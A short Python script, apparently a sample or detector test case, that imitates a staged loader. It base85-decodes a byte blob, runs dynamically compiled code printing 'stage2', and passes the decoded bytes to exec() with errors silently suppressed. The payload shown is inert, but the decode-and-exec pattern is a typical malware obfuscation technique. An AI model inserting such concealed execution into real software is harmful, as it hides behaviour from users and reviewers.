import types
import base64

raw = base64.b85decode(b"VPRomVPRomVPRom")
co = compile("print('stage2')", "<s>", "exec")
fn = types.FunctionType(co, {"__builtins__": __builtins__})
fn()
try:
    exec(raw)
except Exception:
    pass
